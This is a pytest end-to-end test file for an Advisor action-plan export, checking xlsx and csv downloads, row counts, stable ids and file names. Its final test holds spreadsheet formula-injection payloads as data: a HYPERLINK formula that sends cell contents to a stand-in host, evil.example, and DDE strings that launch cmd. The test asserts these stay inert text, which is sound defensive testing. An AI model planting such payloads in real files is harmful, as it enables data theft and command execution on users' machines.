"""The action-plan export end to end: a report asked for with ``formats`` xlsx and csv, both
files downloaded through the function-key route and the signed link, opened with openpyxl and
the csv module, their rows checked against the report's counts, their ids against a second
report of the same data, their names against what a browser saves, and hostile text from
Advisor kept as text."""

from __future__ import annotations

import copy
import csv
import io
import re
from collections import Counter
from datetime import datetime
from typing import Any
from urllib.parse import urlsplit

import openpyxl
import pytest

from shared.rendering.export import HEADERS
from shared.report_service import file_name_text
from tests.downloads import browser_saves

from .support import REPORT_TIMEOUT_SECONDS, ApiClient, within

pytestmark = pytest.mark.e2e

COL = {name: i for i, name in enumerate(HEADERS)}
CUSTOMER = "Zakłady Łódź – 日本語の顧客"
ID_RE = re.compile(r"^AR-[A-Z2-7]{12}$")


def _run(api: ApiClient, body: dict[str, Any]) -> dict[str, Any]:
    with within(REPORT_TIMEOUT_SECONDS + 10):
        report = api.run_report(body)
    assert report["status"] == "completed", report
    return report


@pytest.fixture(scope="module")
def report(api: ApiClient, sample_subscriptions: list[str]) -> dict[str, Any]:
    body = {
        "subscriptionIds": sample_subscriptions,
        "reportType": "detailed",
        "formats": ["xlsx", "csv", "html"],
        "customer": CUSTOMER,
    }
    return _run(api, body)


@pytest.fixture(scope="module")
def files(api: ApiClient, report: dict[str, Any]) -> dict[str, Any]:
    got = {}
    for fmt in ("xlsx", "csv"):
        assert urlsplit(report["files"][fmt]).path == f"/api/links/reports/{report['reportId']}/files/{fmt}"
        _, by_link = api.download(report["files"][fmt])  # the signed link, as a Logic App has it
        _, by_key = api.download(f"/api/reports/{report['reportId']}/files/{fmt}")  # the function key
        assert by_link.status_code == by_key.status_code == 200
        assert by_link.content == by_key.content
        got[fmt] = by_key
    return got


def _xlsx(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).active


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads the names right
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_the_report_lists_its_export_files(report: dict[str, Any]) -> None:
    assert set(report["files"]) == {"xlsx", "csv", "html"}
    assert report["formats"] == ["xlsx", "csv", "html"]


def test_the_rows_are_the_report_s_recommendations(report: dict[str, Any], files: dict[str, Any]) -> None:
    sheet = _xlsx(files["xlsx"].content)
    rows = list(sheet.iter_rows(values_only=True))
    lines = _csv(files["csv"].content)
    assert rows[0] == tuple(lines[0]) == HEADERS
    counts = report["counts"]
    assert len(rows) - 1 == len(lines) - 1 == counts["recommendations"] > 300
    by_category = {v["label"]: v["count"] for v in counts["byCategory"].values()}
    assert Counter(r[1] for r in rows[1:]) == by_category == Counter(r[1] for r in lines[1:])
    assert Counter(r[2].lower() for r in rows[1:]) == counts["byImpact"]
    ids = [r[0] for r in rows[1:]]
    assert [r[0] for r in lines[1:]] == ids and len(set(ids)) == len(ids)
    assert all(ID_RE.match(i) for i in ids)
    # savings as numbers, per currency as the report totals them
    for currency, figures in report["savings"]["byCurrency"].items():
        if currency == "unknown":
            continue
        monthly = sum(r[COL["Monthly savings"]] for r in rows[1:] if r[COL["Currency"]] == currency)
        assert round(monthly, 2) == pytest.approx(float(figures["monthly"]), abs=0.01), currency
    links = [row[COL["Learn more"]] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.hyperlink is not None and cell.hyperlink.target == cell.value for cell in links)
    assert sheet.freeze_panes == "B2" and sheet.auto_filter.ref == f"A1:P{len(rows)}"
    # markup in Advisor's text is reduced to its text
    problems = {r[8] for r in rows[1:]}
    assert "Use managed disks to improve data reliability" in problems
    assert not any("<" in p for p in problems)


def test_the_downloads_are_named_for_what_they_are(report: dict[str, Any], files: dict[str, Any]) -> None:
    day = datetime.fromisoformat(report["fetchedAt"].replace("Z", "+00:00")).strftime("%Y-%m-%d")
    for fmt, response in files.items():
        header = response.headers["Content-Disposition"]
        assert browser_saves(header) == f"advisor-detailed-action-plan-{file_name_text(CUSTOMER)}-{day}.{fmt}"
        assert f'filename="advisor-detailed-action-plan-zaklady-lodz-{day}.{fmt}"' in header
    assert files["xlsx"].headers["Content-Type"].startswith("application/vnd.openxmlformats")


def test_a_second_report_of_the_same_data_has_the_same_ids(
    api: ApiClient, report: dict[str, Any], files: dict[str, Any], sample_subscriptions: list[str]
) -> None:
    again = _run(api, {"subscriptionIds": sample_subscriptions, "reportType": "detailed", "formats": ["csv"]})
    assert set(again["files"]) == {"csv"}
    _, response = api.download(again["files"]["csv"])
    first = [line[0] for line in _csv(files["csv"].content)[1:]]
    second = [line[0] for line in _csv(response.content)[1:]]
    assert second == first  # same rows, same order, same ids
    day = datetime.fromisoformat(again["fetchedAt"].replace("Z", "+00:00")).strftime("%Y-%m-%d")
    assert browser_saves(response.headers["Content-Disposition"]) == f"advisor-detailed-action-plan-{day}.csv"


HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'


def test_hostile_text_from_advisor_stays_text(api: ApiClient, stack: Any, new_subscriptions: Any) -> None:
    (sub,) = new_subscriptions(1, per_subscription=6)
    recs = copy.deepcopy(sub["recommendations"])
    props = recs[0]["properties"]
    props["recommendationTypeId"] = "00000000-0000-4000-8000-00000000beef"
    props["shortDescription"] = {"problem": HOSTILE, "solution": "@SUM(1+1)*cmd|' /C calc'!A0"}
    props["impactedValue"] = "+cmd|' /C calc'!A0"
    stack.standin.set_recommendations(sub["subscriptionId"], recs, "-2+3 subscription")
    report = _run(
        api,
        {"subscriptionIds": [sub["subscriptionId"]], "reportType": "detailed", "formats": ["xlsx", "csv"]},
    )
    _, xlsx = api.download(report["files"]["xlsx"])
    _, plain = api.download(report["files"]["csv"])
    sheet = _xlsx(xlsx.content)
    (row,) = [r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[8].value)]
    for cell in (row[3], row[6], row[8], row[9]):
        assert cell.data_type == "s" and str(cell.value).startswith("'"), cell.value
    assert row[8].value == "'" + HOSTILE
    (line,) = [line for line in _csv(plain.content)[1:] if "HYPERLINK" in line[8]]
    assert (line[3], line[6], line[8]) == ("'-2+3 subscription", "'+cmd|' /C calc'!A0", "'" + HOSTILE)
